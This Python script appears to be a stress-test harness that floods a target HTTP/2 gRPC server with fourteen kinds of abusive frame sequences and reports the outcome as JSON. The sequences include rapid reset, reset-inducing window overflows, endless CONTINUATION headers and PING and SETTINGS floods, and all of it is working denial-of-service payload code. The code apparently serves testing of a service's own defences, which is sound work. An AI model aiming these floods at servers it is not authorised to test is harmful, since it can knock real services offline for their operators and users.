"""Floods a server of HTTP/2 with frames that no client sends, and tells in one line of JSON what came of it.

    flood.py NAME HOST PORT COUNT < session

COUNT frames, and some seconds of them at least. Whoever is thrown out comes again until then.
"""

import collections
import itertools
import json
import sys
import time

from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame
from hyperframe.frame import SettingsFrame, WindowUpdateFrame

from wire import Gone, Wire

BATCH = 100
MAX_WINDOW = (1 << 31) - 1
# Maximum time until a server closes a connection that it refuses.
PATIENCE = 1.0
# Duration of a flood that the server tolerates.
SHORTEST, LONGEST = 1.5, 20.0


def streams():
    """Ids of streams, in batches."""
    for first in itertools.count(1, 2 * BATCH):
        yield range(first, first + 2 * BATCH, 2)


def rapid_reset(wire):
    """Calls that are taken back as soon as they are made."""
    block = wire.method("ListClassifications")
    for batch in streams():
        yield b"".join(wire.call(n, block) + RstStreamFrame(n, error_code=8).serialize() for n in batch)


def made_you_reset(wire):
    """Calls that the server itself has to reset: their windows grow beyond what there is."""
    block = wire.method("ListClassifications")
    for batch in streams():
        grow = [WindowUpdateFrame(n, window_increment=MAX_WINDOW).serialize() for n in batch]
        yield b"".join(wire.call(n, block) + more for n, more in zip(batch, grow))


def data_after_end(wire):
    """Calls that go on after they have said that this was all."""
    block = wire.method("ListClassifications", ("content-length", "5"))
    for batch in streams():
        end = [DataFrame(n, bytes(5), flags=["END_STREAM"]).serialize() for n in batch]
        more = [DataFrame(n, b"more").serialize() for n in batch]
        yield b"".join(wire.call(n, block) + one + other for n, one, other in zip(batch, end, more))


def continuation(wire):
    """The head of a call that never ends, in small pieces."""
    yield HeadersFrame(1, data=wire.method("ShowAccessToken")).serialize()
    # A header without indexing, of one name and one value.
    piece = ContinuationFrame(1, data=b"\x00\x01x\x01y").serialize() * BATCH
    yield from itertools.repeat(piece)


def header_list(wire):
    """The head of a call of 16 MiB."""
    yield HeadersFrame(1, data=wire.method("ShowAccessToken")).serialize()
    # A header without indexing, whose value has a length of 8,000.
    field = b"\x00\x01x\x7f\xc1\x3d" + b"y" * 8_000
    piece = ContinuationFrame(1, data=field * 2).serialize()
    for _ in range((16 << 20) // len(piece)):
        yield piece
    yield ContinuationFrame(1, data=field, flags=["END_HEADERS"]).serialize()


def empty_data(wire):
    """A request that goes on and on and has nothing in it."""
    yield wire.call(1, wire.method("ShowAccessToken"))
    frames = DataFrame(1).serialize() * BATCH
    yield from itertools.repeat(frames)


def ping(wire):
    """Signs of life, each of which wants to be answered."""
    frames = PingFrame(0, opaque_data=b"12345678").serialize() * BATCH
    yield from itertools.repeat(frames)


def settings(wire):
    """Settings that change all the time, each of which wants to be answered."""
    frames = b"".join(SettingsFrame(0, settings={4: 65_535 + n % 2}).serialize() for n in range(BATCH))
    yield from itertools.repeat(frames)


def priority(wire):
    """Priorities of streams that do not exist."""
    frames = PriorityFrame(1, depends_on=0, stream_weight=16).serialize() * BATCH
    yield from itertools.repeat(frames)


def window_update(wire):
    """A window that grows a byte at a time."""
    frames = WindowUpdateFrame(0, window_increment=1).serialize() * BATCH
    yield from itertools.repeat(frames)


def unknown(wire):
    """Frames of a type that does not exist."""
    frames = b"\x00\x00\x08\x42\x00\x00\x00\x00\x0012345678" * BATCH
    yield from itertools.repeat(frames)


def many_streams(wire):
    """Calls without an end, more than the server has allowed."""
    block = wire.method("ShowAccessToken")
    for batch in streams():
        yield b"".join(wire.call(n, block) for n in batch)


def lists(wire, first=b""):
    """Calls with large answers, over some connections."""
    # ListAccessTokens of accounts_receivable_identifier {id: "flood"}, with fields_set {paths: "udf_string_1"}.
    body = b"\x0a\x07\x0a\x05flood" + b"\x3a\x0e\x0a\x0cudf_string_1"
    message = b"\0" + len(body).to_bytes(4, "big") + body
    block = wire.method("ListAccessTokens")
    wires = [wire, *(wire.another() for _ in range(7))]
    for one in wires:
        one.send(first)
    for n in range(1, 8 * 2, 2):
        for one in wires:
            one.send(one.call(n, block) + DataFrame(n, message, flags=["END_STREAM"]).serialize())
            # Slow enough to leave the service time for other clients.
            one.await_answer()
        yield b""


def open_window(wire):
    """Answers that are large, and are taken."""
    return lists(wire, WindowUpdateFrame(0, window_increment=MAX_WINDOW - 65_535).serialize())


def closed_window(wire):
    """Answers that are large, and nobody takes them."""
    return lists(wire)


FLOODS = {
    flood.__name__.replace("_", "-"): flood
    for flood in [
        rapid_reset,
        made_you_reset,
        data_after_end,
        continuation,
        header_list,
        empty_data,
        ping,
        settings,
        priority,
        window_update,
        unknown,
        many_streams,
        open_window,
        closed_window,
    ]
}


WINDOWS = {
    "open-window": {SettingsFrame.INITIAL_WINDOW_SIZE: MAX_WINDOW},
    "closed-window": {SettingsFrame.INITIAL_WINDOW_SIZE: 0},
}


def main():
    name, host, port, count = sys.argv[1:]
    session, began = sys.stdin.readline().strip(), time.monotonic()
    story, frames, goes_on = collections.Counter(), 0, True
    while goes_on:
        story["connections"] += 1
        wire = Wire((host, int(port)), session, story, WINDOWS.get(name))
        try:
            for octets in FLOODS[name](wire):
                took = time.monotonic() - began
                goes_on = took < LONGEST and (frames < int(count) or took < SHORTEST)
                if not goes_on or not wire.send(octets):
                    break
                frames += BATCH
            wire.listen(PATIENCE)
            goes_on = goes_on and wire.closed
        except Gone:
            pass
        wire.socket.close()
    print(json.dumps({**story, "seconds": round(time.monotonic() - began, 2)}))


if __name__ == "__main__":
    main()
